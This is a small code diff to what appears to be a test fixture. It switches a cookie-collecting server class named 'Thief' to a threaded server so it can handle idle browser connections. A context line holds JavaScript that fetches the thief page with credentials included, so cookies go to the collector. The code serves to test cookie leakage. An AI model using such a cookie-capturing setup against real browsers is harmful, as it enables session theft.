@@ -2,7 +2,7 @@
 
 import threading
 from collections.abc import Iterator
-from http.server import BaseHTTPRequestHandler, HTTPServer
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from urllib.parse import urlsplit
 
@@ -24,8 +24,8 @@ fetch("{page}today", {{credentials: "include", mode: "no-cors"}}).then(() => doc
 """
 
 
-class Thief(HTTPServer):
-    """Keeps every cookie that it is sent."""
+class Thief(ThreadingHTTPServer):
+    """Keeps every cookie that it is sent; a browser opens connections that it does not use yet."""
 
     page = ""
 
